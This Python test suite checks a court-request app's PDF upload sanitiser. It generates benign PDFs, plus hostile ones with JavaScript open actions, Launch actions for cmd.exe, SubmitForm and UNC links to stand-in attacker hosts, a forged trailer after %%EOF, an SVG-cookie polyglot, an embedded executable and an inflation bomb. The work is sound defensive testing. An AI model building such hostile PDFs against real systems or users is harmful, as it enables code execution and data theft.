"""The upload corpus of issue 15, run against the API: benign files from several producers are
accepted and their served copy opens in pikepdf without warnings; hostile files are refused
with a reason code or served without their active element; the original is kept unchanged.

Every file is generated here (pikepdf, fpdf2, pyHanko, raw bytes); nothing is a fixture.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import re
import time
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
import pytest
from django.conf import settings

from audit.models import AuditEvent
from requests_app import crypto
from requests_app.models import Attachment
from requests_app.services import attachments as attachment_service
from requests_app.services.attachments import storage_path

from .helpers import detail_url, stored_files, upload

pytestmark = pytest.mark.django_db


def post(api, reference: str, data: bytes):
    return api.post(f"{detail_url(reference)}attachments/", {"file": upload(data, "order.pdf")}, format="multipart")


def save(pdf: pikepdf.Pdf, **kwargs) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **kwargs)
    return out.getvalue()


def new_pdf(pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page()
    return pdf


def with_link(uri: str) -> bytes:
    pdf = new_pdf()
    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(uri))
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100], A=action))]))
    return save(pdf)


def with_annotation_action(action: pikepdf.Dictionary, subtype: str = "/Link") -> bytes:
    pdf = new_pdf()
    annot = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(subtype), Rect=[0, 0, 10, 10],
                               A=action)
    pdf.pages[0].obj.Annots = pikepdf.Array([pdf.make_indirect(annot)])
    return save(pdf)


def with_annotation(subtype: str, **extra: Any) -> bytes:
    pdf = new_pdf()
    annot = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(subtype), Rect=[0, 0, 10, 10],
                               **extra)
    pdf.pages[0].obj.Annots = pikepdf.Array([pdf.make_indirect(annot)])
    return save(pdf)


# --------------------------------------------------------------------------------------------
# Benign producers
# --------------------------------------------------------------------------------------------


def hyperref_goto_openaction() -> bytes:
    """What pdfTeX/hyperref writes: /OpenAction << /S /GoTo /D [page /Fit] >>, outlines, links."""
    pdf = new_pdf(3)
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[pdf.pages[0].obj, pikepdf.Name.Fit])
    pdf.Root.PageMode = pikepdf.Name.UseOutlines
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 10, 10],
                              A=pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[pdf.pages[2].obj, pikepdf.Name.Fit]))
    web = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 20, 10, 30],
                             A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://eur-lex.europa.eu/")))
    pdf.pages[1].obj.Annots = pikepdf.Array([pdf.make_indirect(link), pdf.make_indirect(web)])
    return save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def fpdf2_document() -> bytes:
    from fpdf import FPDF

    doc = FPDF()
    for n in range(3):
        doc.add_page()
        doc.set_font("helvetica", size=12)
        doc.cell(text=f"Order of the investigating judge, page {n + 1}")
        doc.link(10, 10, 50, 10, "mailto:greffe@tribunal.example")
    return bytes(doc.output())


def qpdf_warning() -> bytes:
    """A wrong startxref offset, as some writers leave: qpdf warns and reconstructs the xref."""
    data = save(new_pdf(2), compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    found = re.search(rb"startxref\s+(\d+)", data)
    assert found is not None
    offset = int(found.group(1))
    return data.replace(b"startxref\n%d" % offset, b"startxref\n%d" % (offset + 7))


def owner_password_only(aes: bool) -> Callable[[], bytes]:
    def build() -> bytes:
        return save(new_pdf(), encryption=pikepdf.Encryption(owner="owner-secret", user="", aes=aes,
                                                             R=6 if aes else 4, metadata=aes))
    return build


def large_compressed_with_container_bytes() -> bytes:
    """Binary image data holding "PK\\x03\\x04" and "Rar!" by chance, as large scans do."""
    pdf = new_pdf()
    rng = bytes((i * 7919 + 13) % 251 for i in range(200_000))
    raw = rng[:1000] + b"PK\x03\x04" + rng[1000:5000] + b"Rar!\x1a\x07" + rng[5000:]
    image = pikepdf.Stream(pdf, raw)
    image.Type, image.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
    image.Width, image.Height, image.BitsPerComponent = 1000, 200, 8
    image.ColorSpace = pikepdf.Name.DeviceGray
    pdf.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=image))
    pdf.pages[0].Contents = pikepdf.Stream(pdf, b"q 100 0 0 20 0 0 cm /Im0 Do Q")
    return save(pdf, compress_streams=False)


def form_with_fields() -> bytes:
    pdf = new_pdf()
    widget = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget,
                                                  FT=pikepdf.Name.Tx, T=pikepdf.String("case"),
                                                  Rect=[10, 10, 200, 30], V=pikepdf.String("2026/17")))
    pdf.pages[0].obj.Annots = pikepdf.Array([widget])
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[widget])
    return save(pdf)


def many_pages() -> bytes:
    return save(new_pdf(300), object_stream_mode=pikepdf.ObjectStreamMode.generate)


BENIGN: dict[str, Callable[[], bytes]] = {
    "hyperref_goto_openaction": hyperref_goto_openaction,
    "fpdf2": fpdf2_document,
    "qpdf_warning": qpdf_warning,
    "owner_password_aes": owner_password_only(True),
    "owner_password_rc4": owner_password_only(False),
    "large_compressed_container_bytes": large_compressed_with_container_bytes,
    "form": form_with_fields,
    "300_pages": many_pages,
    "http_link": lambda: with_link("http://www.legislation.gov.uk/"),
}


@pytest.mark.parametrize("case", BENIGN)
def test_a_benign_file_is_accepted_and_its_served_copy_opens_without_warnings(case, api, own_request):
    data = BENIGN[case]()
    response = post(api, own_request.reference, data)

    assert response.status_code == 201, response.content
    attachment = Attachment.objects.get(pk=response.json()["id"])
    served = storage_path(attachment.stored_name).read_bytes()
    with pikepdf.open(io.BytesIO(served)) as pdf:
        assert pdf.get_warnings() == []
        assert not pdf.is_encrypted
        assert len(pdf.pages) == attachment.page_count >= 1
    assert hashlib.sha256(served).hexdigest() == attachment.sha256
    assert crypto.decrypt(attachment_service.original_path(attachment.original_stored_name).read_bytes()) == data
    assert attachment.original_sha256 == hashlib.sha256(data).hexdigest()
    assert attachment.original_size == len(data)


def test_a_hyperref_goto_open_action_is_kept(api, own_request):
    body = post(api, own_request.reference, hyperref_goto_openaction()).json()
    served = storage_path(Attachment.objects.get(pk=body["id"]).stored_name).read_bytes()
    with pikepdf.open(io.BytesIO(served)) as pdf:
        assert pikepdf.Name.GoTo == pdf.Root.OpenAction.S
    assert body["removed"] == {}


# --------------------------------------------------------------------------------------------
# Hostile files
# --------------------------------------------------------------------------------------------

ACTIVE_NAMES = re.compile(
    rb"/(?:JavaScript|JS|Launch|SubmitForm|ImportData|GoToR|GoToE|RichMedia|3D|Screen|Movie|Sound|AA|"
    rb"EmbeddedFiles?|XFA|AF|RichMediaContent|3DD)(?![A-Za-z0-9])"
)


def active_elements(served: bytes) -> list[str]:
    """An independent look for active content in every object of the served copy."""
    found: list[str] = []
    with pikepdf.open(io.BytesIO(served)) as pdf:
        assert pdf.get_warnings() == []
        for obj in [pdf.trailer, *pdf.objects]:
            if obj is None:
                continue
            target = obj.stream_dict if isinstance(obj, pikepdf.Stream) else obj
            text = target.unparse(resolved=True) if isinstance(target, pikepdf.Object) else b""
            found += [m.decode() for m in ACTIVE_NAMES.findall(text)]
            for uri in re.findall(rb"/URI\s*\(([^)]*)\)", text):
                if not re.match(rb"(?i)(https?|mailto):", uri):
                    found.append(f"uri {uri!r}")
        open_action = pdf.Root.get("/OpenAction")
        if isinstance(open_action, pikepdf.Dictionary) and open_action.get("/S") != pikepdf.Name.GoTo:
            found.append("open action")
    return found


def free_marked_action() -> bytes:
    """The /OpenAction's object is marked free in the xref: one reader sees it, another not."""
    pdf = new_pdf()
    action = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
    pdf.Root.OpenAction = action
    data = save(pdf, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable,
                qdf=False, static_id=True)
    number = action.objgen[0]
    xref_at = data.rindex(b"\nxref\n") + 1
    lines = data[xref_at:].split(b"\n")
    index = 2 + number  # "xref", "0 N", then one entry per object
    lines[index] = lines[index][:17] + b"f" + lines[index][18:]
    return data[:xref_at] + b"\n".join(lines)


def forged_trailer_after_eof() -> bytes:
    """A payload after %%EOF followed by a forged trailer pointing at a hostile catalog."""
    data = save(new_pdf(), compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    payload_at = len(data)
    payload = (b"99 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript "
               b"/JS (app.launchURL\\('http://evil.example/'\\)) >> >>\nendobj\n")
    xref = b"xref\n99 1\n%010d 00000 n \n" % payload_at
    last = re.search(rb"startxref\s+(\d+)\s*%%EOF\s*$", data)
    assert last is not None
    previous = int(last.group(1))
    trailer = b"trailer\n<< /Size 100 /Root 99 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        previous, payload_at + len(payload))
    return data + payload + xref + trailer


def html_svg_polyglot() -> bytes:
    data = save(new_pdf())
    head = data.index(b"\n") + 1
    return data[:head] + b"%<svg onload=alert(document.cookie)>\n" + data[head:]


def names_javascript() -> bytes:
    pdf = new_pdf()
    js = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(2)")))
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("a"), js]))
    return save(pdf)


def page_aa() -> bytes:
    pdf = new_pdf()
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.Launch,
                                                                  F=pikepdf.String("cmd.exe")))
    return save(pdf)


def embedded_file() -> bytes:
    pdf = new_pdf()
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00")  # type: ignore[call-arg]
    return save(pdf)


def xfa_form() -> bytes:
    pdf = new_pdf()
    xfa = pikepdf.Stream(pdf, b"<xdp:xdp><script>app.alert(3)</script></xdp:xdp>")
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=xfa)
    return save(pdf)


def launch_openaction() -> bytes:
    pdf = new_pdf()
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"))
    return save(pdf)


SANITISED: dict[str, tuple[Callable[[], bytes], str]] = {
    "javascript_uri": (lambda: with_link("javascript:app.alert(1)"), "uri_javascript"),
    "file_uri": (lambda: with_link("file:///C:/Windows/System32/cmd.exe"), "uri_file"),
    "unc_path": (lambda: with_link("\\\\attacker.example\\share\\x.pdf"), "uri_other"),
    "submit_form": (lambda: with_annotation_action(pikepdf.Dictionary(
        S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/collect"))), "action_submitform"),
    "import_data": (lambda: with_annotation_action(pikepdf.Dictionary(
        S=pikepdf.Name.ImportData, F=pikepdf.String("data.fdf"))), "action_importdata"),
    "gotor": (lambda: with_annotation_action(pikepdf.Dictionary(
        S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\attacker.example\\s\\x.pdf"), D=[0, pikepdf.Name.Fit])),
        "action_gotor"),
    "gotoe": (lambda: with_annotation_action(pikepdf.Dictionary(
        S=pikepdf.Name.GoToE, T=pikepdf.Dictionary(R=pikepdf.Name.C, N=pikepdf.String("x")))), "action_gotoe"),
    "rich_media": (lambda: with_annotation("/RichMedia", RichMediaContent=pikepdf.Dictionary(
        Assets=pikepdf.Dictionary())), "rich_media"),
    "3d_with_script": (lambda: with_annotation("/3D", **{"3DD": pikepdf.Dictionary(
        Type=pikepdf.Name("/3D"), OnInstantiate=pikepdf.String("alert(1)"))}), "3d"),
    "screen": (lambda: with_annotation("/Screen"), "screen"),
    "sound": (lambda: with_annotation("/Sound"), "sound"),
    "free_marked_action": (free_marked_action, ""),
    "forged_trailer_after_eof": (forged_trailer_after_eof, ""),
    "names_javascript": (names_javascript, "javascript"),
    "page_aa_launch": (page_aa, "additional_actions"),
    "embedded_file": (embedded_file, "embedded_files"),
    "xfa": (xfa_form, "xfa"),
    "launch_openaction": (launch_openaction, "open_action"),
}


@pytest.mark.parametrize("case", SANITISED)
def test_a_hostile_file_is_served_without_its_active_element(case, api, officer, own_request):
    make, removed = SANITISED[case]
    data = make()
    response = post(api, own_request.reference, data)

    assert response.status_code == 201, response.content
    body = response.json()
    attachment = Attachment.objects.get(pk=body["id"])
    if removed:
        assert removed in body["removed"], body["removed"]
        assert attachment.removed == body["removed"]
    served = storage_path(attachment.stored_name).read_bytes()
    assert active_elements(served) == []
    assert b"evil.example" not in served
    assert crypto.decrypt(attachment_service.original_path(attachment.original_stored_name).read_bytes()) == data
    assert attachment.original_sha256 == hashlib.sha256(data).hexdigest()
    event = AuditEvent.objects.get(action="attachment.added")
    assert event.data["removed"] == body["removed"]


def certificate_encrypted() -> bytes:
    """A PDF whose /Encrypt dictionary names the public-key (certificate) security handler."""
    data = save(new_pdf(), compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    encrypt = (b"<< /Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s5 /V 4 /R 4 /Length 128 "
               b"/Recipients [<3082>] /CF << /DefaultCryptFilter << /CFM /AESV2 /Recipients [<3082>] >> >> "
               b"/StmF /DefaultCryptFilter /StrF /DefaultCryptFilter >>")
    return data.replace(b"trailer <<", b"trailer << /Encrypt " + encrypt + b" /ID [<00><00>]", 1).replace(
        b"trailer\n<<", b"trailer\n<< /Encrypt " + encrypt + b" /ID [<00><00>]", 1)


REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "user_password": (lambda: save(new_pdf(), encryption=pikepdf.Encryption(owner="o", user="u")), "encrypted_pdf"),
    "certificate_encryption": (certificate_encrypted, "encrypted_pdf"),
    "html_svg_polyglot": (html_svg_polyglot, "polyglot"),
    "not_a_pdf": (lambda: b"<html><body>hello</body></html>", "not_pdf"),
}


@pytest.mark.parametrize("case", REFUSED)
def test_what_cannot_be_normalised_is_refused_with_its_code(case, api, officer, own_request):
    make, code = REFUSED[case]
    response = post(api, own_request.reference, make())
    assert response.status_code == 400, response.content
    assert response.json()["error"]["code"] == code
    assert AuditEvent.objects.get(action="attachment.rejected").data["code"] == code
    assert not Attachment.objects.exists()
    assert stored_files(settings.PRIVATE_STORAGE_ROOT) == []


# --------------------------------------------------------------------------------------------
# Limits
# --------------------------------------------------------------------------------------------


def inflation_bomb(decoded: int) -> bytes:
    """One content stream that inflates to ``decoded`` bytes (about 1/1000 of that on disk)."""
    compressor = zlib.compressobj(9)
    chunk = b"\x00" * (16 * 1024 * 1024)
    raw = b"".join(compressor.compress(chunk) for _ in range(decoded // len(chunk))) + compressor.flush()
    pdf = new_pdf()
    stream = pikepdf.Stream(pdf, raw)
    stream.Filter = pikepdf.Name.FlateDecode
    pdf.pages[0].Contents = stream
    return save(pdf, compress_streams=False)


def many_objects(count: int) -> bytes:
    """``count`` tiny objects in a hand-written file (the "million tiny objects" class)."""
    parts = [b"%PDF-1.4\n"]
    offsets = []
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>"]
    objects += [b"[%d]" % n for n in range(count)]
    position = len(parts[0])
    for number, body in enumerate(objects, start=1):
        offsets.append(position)
        piece = b"%d 0 obj\n%s\nendobj\n" % (number, body)
        parts.append(piece)
        position += len(piece)
    xref = [b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)]
    xref += [b"%010d 00000 n \n" % offset for offset in offsets]
    parts += xref
    parts.append(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, position))
    return b"".join(parts)


def test_an_inflation_bomb_is_refused_within_its_budget(api, settings, own_request):
    settings.UPLOAD_SANDBOX_MAX_DECODED_BYTES = 32 * 1024 * 1024
    data = inflation_bomb(256 * 1024 * 1024)
    started = time.monotonic()
    response = post(api, own_request.reference, data)
    assert response.status_code == 400, response.content
    assert response.json()["error"]["code"] == "too_complex"
    assert time.monotonic() - started < settings.UPLOAD_SANDBOX_CPU_SECONDS
    assert not Attachment.objects.exists()


def test_a_file_of_too_many_objects_is_refused_within_its_budget(api, settings, own_request):
    settings.UPLOAD_SANDBOX_MAX_OBJECTS = 20_000
    started = time.monotonic()
    response = post(api, own_request.reference, many_objects(60_000))
    assert response.status_code == 400, response.content
    assert response.json()["error"]["code"] == "too_complex"
    assert time.monotonic() - started < settings.UPLOAD_SANDBOX_CPU_SECONDS


def test_the_cpu_budget_is_enforced_by_the_kernel(api, settings, own_request):
    settings.UPLOAD_SANDBOX_CPU_SECONDS = 1
    settings.UPLOAD_SANDBOX_MAX_OBJECTS = 10_000_000
    started = time.monotonic()
    response = post(api, own_request.reference, many_objects(400_000))
    assert response.status_code == 400, response.content
    assert response.json()["error"]["code"] == "too_complex"
    assert time.monotonic() - started < 10


def test_the_size_limit_allows_a_50_mib_scan():
    assert settings.UPLOAD_MAX_BYTES >= 50 * 1024 * 1024


# --------------------------------------------------------------------------------------------
# Signatures on the original
# --------------------------------------------------------------------------------------------


SIGNER_CERTS: dict[str, bytes] = {}  # signer name → its certificate (PEM), for the trust-root test


def signed_pdf() -> tuple[bytes, str]:
    from asn1crypto import keys as asn1_keys
    from asn1crypto import x509 as asn1_x509
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import rsa
    from cryptography.x509.oid import NameOID
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import signers
    from pyhanko_certvalidator.registry import SimpleCertificateStore

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Juge d'instruction Test"),
                      x509.NameAttribute(NameOID.COUNTRY_NAME, "FR")])
    # Valid for decades either side: the sandbox checks it on the real clock, the test signs on
    # the frozen one, and the suite must pass on any date.
    start = dt.datetime(2000, 1, 1, tzinfo=dt.UTC)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
            .serial_number(4711).not_valid_before(start).not_valid_after(start + dt.timedelta(days=365 * 99))
            .add_extension(x509.KeyUsage(True, True, False, False, False, False, False, False, False), True)
            .sign(key, hashes.SHA256()))
    signer = signers.SimpleSigner(
        signing_cert=asn1_x509.Certificate.load(cert.public_bytes(serialization.Encoding.DER)),
        signing_key=asn1_keys.PrivateKeyInfo.load(key.private_bytes(
            serialization.Encoding.DER, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())),
        cert_registry=SimpleCertificateStore(),
    )
    SIGNER_CERTS["Juge d'instruction Test"] = cert.public_bytes(serialization.Encoding.PEM)
    writer = IncrementalPdfFileWriter(io.BytesIO(save(new_pdf(2))))
    out = signers.sign_pdf(writer, signers.PdfSignatureMetadata(field_name="Signature1"), signer=signer)
    return out.getvalue(), "Juge d'instruction Test"


def test_a_signed_pdf_is_accepted_and_its_signature_verified_on_the_original(api, own_request):
    data, signer = signed_pdf()
    response = post(api, own_request.reference, data)

    assert response.status_code == 201, response.content
    attachment = Attachment.objects.get(pk=response.json()["id"])
    [signature] = attachment.signatures
    assert signer in signature["signer"]
    assert (signature["intact"], signature["valid"], signature["trusted"]) == (True, True, False)
    assert signature["field"] == "Signature1"
    assert "trust root" in signature["why"]
    assert crypto.decrypt(attachment_service.original_path(attachment.original_stored_name).read_bytes()) == data


def test_a_signature_chaining_to_a_configured_root_is_trusted(api, own_request, settings, tmp_path):
    data, signer = signed_pdf()
    roots = tmp_path / "roots.pem"
    roots.write_bytes(SIGNER_CERTS[signer])  # the court's (self-signed) root, as an operator configures it
    settings.PADES_TRUST_ROOTS_FILE = str(roots)
    response = post(api, own_request.reference, data)
    assert response.status_code == 201, response.content
    [signature] = Attachment.objects.get(pk=response.json()["id"]).signatures
    assert (signature["intact"], signature["valid"], signature["trusted"]) == (True, True, True)
    assert signature["why"] == "signature intact, valid and trusted"


def test_a_tampered_signed_pdf_is_kept_with_an_invalid_signature(api, own_request):
    data, _signer = signed_pdf()
    tampered = data.replace(b"/MediaBox [ 0 0 612 792 ]", b"/MediaBox [ 0 0 612 793 ]", 1)
    assert tampered != data
    response = post(api, own_request.reference, tampered)

    assert response.status_code == 201, response.content
    [signature] = Attachment.objects.get(pk=response.json()["id"]).signatures
    assert signature["valid"] is False
    assert signature["why"]
